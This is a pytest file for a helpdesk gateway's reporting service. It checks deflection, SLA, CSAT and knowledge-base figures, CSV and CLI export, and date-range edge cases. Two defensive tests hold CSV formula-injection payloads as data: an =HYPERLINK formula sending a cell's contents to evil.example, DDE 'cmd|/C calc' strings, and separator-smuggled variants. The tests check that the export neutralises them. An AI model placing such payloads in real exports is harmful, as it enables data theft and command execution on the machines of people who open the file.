"""Reports from recorded events: the figures a lead reads, for a day played at the desk."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest
from desk_seed import Desk, seed_desk

from gateway import metrics
from gateway.reports.commands import query_from
from gateway.reports.export import as_csv, display, rows
from gateway.reports.figures import ReportQuery
from gateway.reports.service import ReportService
from gateway.store import Store

ROOT = Path(__file__).resolve().parents[1]
DAY = date(2026, 11, 10)


async def test_the_day_adds_up(store: Store) -> None:
    await seed_desk(store)
    report = await ReportService(store).report(ReportQuery(DAY, DAY))
    d = report["deflection"]
    assert (d["bot_resolved"], d["tickets"], d["conversations"]) == (2, 4, 6)
    assert d["bot_share"] == round(2 / 6, 4)
    assert (d["l1_resolved"], d["escalated_resolved"], d["l1_share"]) == (3, 0, 1.0)
    frt = report["time"]["first_response"]
    assert frt["count"] == 3
    assert frt["within_sla"] == round(2 / 3, 4)  # the network reply came after 30 min
    # 10, 20 and 40 minutes: the median's bucket holds 20 min, reported as its upper edge.
    assert 1200 <= frt["median_seconds"] <= 1200 * 1.2
    assert 2400 <= frt["p90_seconds"] <= 2400 * 1.2
    sla = report["sla"]["by_priority"]
    assert sla["P2"]["first_response"] == {"count": 2, "met": 1}
    assert sla["P3"]["first_response_compliance"] == 1.0
    assert report["sla"]["by_group"]["network"]["first_response_compliance"] == 0.0
    c = report["csat"]
    assert c["distribution"] == {"1": 0, "2": 1, "3": 0, "4": 2, "5": 1}
    assert c["responses"] == 4 and c["asked"] == 5  # two bot resolutions, three tickets
    assert c["average"] == round((5 + 4 + 4 + 2) / 4, 2)
    assert c["by_operator"]["bob"]["responses"] == 1 and c["by_operator"]["bob"]["asked"] == 2
    assert c["by_operator"]["bot"]["average"] == 4.5
    assert {x["comment"] for x in c["comments"]} == {
        "спасибо, быстро", "thanks bob, rated 4", "thanks carol, rated 2"
    }  # fmt: skip
    # The article went out 4 times; two "no" answers were never followed by a ticket, and
    # the seeded not_solved ticket had no "no" at all: every "no", and only a "no", counts.
    assert report["kb"]["top_topics"][0] == {"topic": "printer_offline", "answered": 4}
    assert report["kb"]["not_helped"] == [
        {"topic": "printer_offline", "not_helped": 2, "of_answered": 0.5}
    ]
    assert report["kb"]["unmatched_count"] == 1
    assert report["kb"]["unmatched"][0]["text"] == "strange thing t2"
    assert report["volume"]["total"] == 6
    assert report["volume"]["by_weekday_hour"][1][9] == 6  # Tuesday, 09:00 UTC


async def test_a_user_s_words_in_the_csv_never_run_as_a_formula(store: Store) -> None:
    """A rating comment, an unmatched question or a subject went into the export as the
    user wrote it: "=HYPERLINK(…)" or "@SUM(…)" ran when the lead opened it in Excel."""
    d = await seed_desk(store)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0",
               "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]  # fmt: skip
    for n, comment in enumerate(hostile):
        await d.bot_solves("telegram", f"x{n}", 5, comment)
    report = await ReportService(store).report(ReportQuery(DAY, DAY))
    cells = [row[1] for row in csv.reader(io.StringIO(as_csv(report)))]
    for comment in hostile:
        assert comment not in cells and "'" + comment in cells
    formulas = [c for c in cells if c.startswith(("=", "+", "@")) or (c.startswith("-") and not
                c.lstrip("-").replace(".", "", 1).isdigit())]  # fmt: skip
    assert formulas == []


async def test_a_user_s_words_start_no_formula_whatever_the_separator(store: Store) -> None:
    """A Russian or Ukrainian Excel opens a .csv with ";" as its list separator, and
    LibreOffice offers tab and ";" too: a comment "спасибо;=HYPERLINK(…)" opened as two
    cells, the second a formula; a line break before "@SUM(…)" began a row with it."""
    d = await seed_desk(store)
    hostile = ['спасибо;=HYPERLINK("http://evil.example","open")', "ok\t=1+1",
               "fine;@SUM(1)", "line\n+cmd|' /C calc'!A0", "a,-2+3"]  # fmt: skip
    for n, comment in enumerate(hostile):
        await d.bot_solves("telegram", f"s{n}", 5, comment)
    text = as_csv(await ReportService(store).report(ReportQuery(DAY, DAY)))
    pieces = [p.strip('"') for p in re.split(r"[;,\t\r\n]", text)]
    formulas = [p for p in pieces if p.startswith(("=", "+", "@", "-")) and not _number(p)]
    assert formulas == []
    comments = [row[1] for row in csv.reader(io.StringIO(text)) if ".comments." in row[0]]
    assert "fine;'@SUM(1)" in comments
    assert 'спасибо;\'=HYPERLINK("http://evil.example","open")' in comments
    assert "спасибо, быстро" in comments  # plain words as written


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


async def test_a_quiet_past_day_reported_again_is_reported_the_same(store: Store) -> None:
    """A closed day with no counters is kept as {} after the first report; the second
    report of it (a reload of the page) looked it up as missing: KeyError, a 500."""
    service = ReportService(store)
    quiet = ReportQuery(date(2026, 11, 27), date(2026, 11, 27))
    first = await service.report(quiet)
    assert first["volume"]["total"] == 0
    assert await service.report(quiet) == first


async def test_a_report_of_the_last_days_a_calendar_holds_is_refused_not_failed() -> None:
    """Periods a person could type in the page's date fields: the calendar's very end
    (its months ran past year 9999: OverflowError, a 500) and centuries (every day read:
    the request hung); refused with a message instead."""
    for start, end in (("9999-12-01", "9999-12-31"), ("0001-01-01", "9999-12-31")):
        with pytest.raises(ValueError, match="from, to"):
            query_from(start, end, [], "", "", "", "UTC")
    assert query_from("2025-12-04", "2026-12-03", [], "", "", "", "UTC").days()[-1] == (
        "2026-12-03"
    )


async def test_filters_and_an_operators_groups(store: Store) -> None:
    await seed_desk(store)
    service = ReportService(store)
    network = await service.report(ReportQuery(DAY, DAY, groups=frozenset({"network"})))
    assert network["deflection"]["tickets"] == 1
    assert network["deflection"]["bot_resolved"] == 0  # the bot's own are nobody's group
    assert set(network["csat"]["by_group"]) == {"network"}
    assert [x["operator"] for x in network["csat"]["comments"]] == ["carol"]
    p2 = await service.report(ReportQuery(DAY, DAY, priority="P2"))
    assert p2["time"]["first_response"]["count"] == 2
    # First responses: 10 and 20 min on Telegram, 40 min on the web chat. The channel
    # filter narrows the percentiles too, not just the counts.
    web = (await service.report(ReportQuery(DAY, DAY, channel="webchat")))["time"]
    assert web["first_response"]["count"] == 1
    assert 2400 <= web["first_response"]["median_seconds"] <= 2400 * 1.2
    assert 2400 <= web["first_response"]["p90_seconds"] <= 2400 * 1.2
    tg = (await service.report(ReportQuery(DAY, DAY, channel="telegram")))["time"]
    assert tg["first_response"]["count"] == 2
    assert 600 <= tg["first_response"]["median_seconds"] <= 600 * 1.2
    assert 1200 <= tg["first_response"]["p90_seconds"] <= 1200 * 1.2
    bob = await service.report(ReportQuery(DAY, DAY, operator="bob"))
    assert bob["time"]["resolution"]["count"] == 2
    assert bob["deflection"]["tickets"] == 4  # figures without an operator stay whole
    other_day = await service.report(ReportQuery(date(2026, 11, 11), date(2026, 11, 12)))
    assert other_day["deflection"]["conversations"] == 0
    # Read from the week and month rollups, the same day adds up the same.
    for start, end in ((date(2026, 11, 9), date(2026, 11, 15)), (date(2026, 11, 1), DAY)):
        wider = await service.report(ReportQuery(start, end))
        assert wider["deflection"] == (await service.report(ReportQuery(DAY, DAY)))["deflection"]
    month = ReportQuery(date(2026, 11, 1), date(2026, 11, 30))
    assert month.units() == ["2026-11"]


async def test_cli_prints_the_same_numbers(store: Store, redis_url: str) -> None:
    await seed_desk(store)
    report = await ReportService(store).report(
        ReportQuery(DAY, DAY, groups=frozenset({"hardware"}))
    )
    env = {
        **os.environ,
        "REDIS_URL": redis_url,
        "FIRSTLINE_CONFIG": str(ROOT / "config/firstline.yaml"),
    }
    base = [sys.executable, "-m", "gateway", "report", "--from", "2026-11-10", "--to", "2026-11-10",
            "--group", "hardware"]  # fmt: skip

    def run(fmt: str) -> str:
        done = subprocess.run([*base, "--format", fmt], env=env, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
        return done.stdout

    assert json.loads(run("json")) == json.loads(json.dumps(report))
    assert run("csv") == as_csv(report).replace("\r\n", "\n")  # text mode reads \r\n as \n
    table = run("table")
    for key, value in rows(report):
        assert f"{key}  " in table and display(key, value) in table
    bad = subprocess.run(
        [*base[:-2], "--group", "printers"], env=env, capture_output=True, text=True
    )
    assert bad.returncode == 2 and "unknown ['printers']" in bad.stderr


async def test_a_bot_resolution_that_did_not_hold_counts_once_as_what_it_became(
    store: Store,
) -> None:
    """Outside pass (desk28): the article "helped", and at its rating the next day the user
    said "всё равно не работает"; the checklist opened a ticket. The report counted the
    conversation twice, once resolved by the bot (on the first day) and once as a ticket.
    Now the first day's bot resolution is taken back (also from a report service that kept
    that closed day), the ticket counts on its own day, and the metric says so too."""
    d = Desk.build(store)
    service = ReportService(store)
    undone = metrics.DEFLECTION.labels("telegram", "bot_undone")
    before = undone._value.get()
    resolved, not_held = metrics.RESOLVED_BY_BOT._value.get(), not_held_shown()
    await d.say("telegram", "u1", "принтер не печатает, пишет offline")
    await d.say("telegram", "u1", "да")
    first = await service.report(ReportQuery(DAY, DAY))
    assert first["deflection"]["bot_resolved"] == 1 and first["volume"]["total"] == 1
    d.clock.now += 86400  # the next day
    await d.say("telegram", "u1", "всё равно не работает")
    for answer in ("перезагружал", "Windows 10", "с утра", "не знаю", "не знаю", "не знаю"):
        if await store.tickets.for_conversation("telegram:u1", False):
            break
        await d.say("telegram", "u1", answer)
    assert await store.tickets.for_conversation("telegram:u1", False)
    day_one = await service.report(ReportQuery(DAY, DAY))
    assert day_one["deflection"]["bot_resolved"] == 0 and day_one["volume"]["total"] == 0
    both = await service.report(ReportQuery(DAY, date(2026, 11, 11)))
    d1 = both["deflection"]
    assert (d1["bot_resolved"], d1["tickets"], d1["conversations"]) == (0, 1, 1)
    assert both["kb"]["not_helped"][0]["topic"] == "printer_offline"  # the answer's "no"
    assert both["csat"]["asked"] == 1  # the rating was asked, and stays asked
    assert undone._value.get() == before + 1
    # the first-line figure on /metrics: resolved once, and that resolution taken back
    assert metrics.RESOLVED_BY_BOT._value.get() == resolved + 1
    assert not_held_shown() == not_held + 1


def not_held_shown() -> float:
    """`firstline_resolved_first_line_undone_total` as /metrics shows it."""
    text = metrics.render()[0].decode()
    found = re.search(r"^firstline_resolved_first_line_undone_total (\S+)$", text, re.M)
    assert found, "no firstline_resolved_first_line_undone_total on /metrics"
    return float(found.group(1))
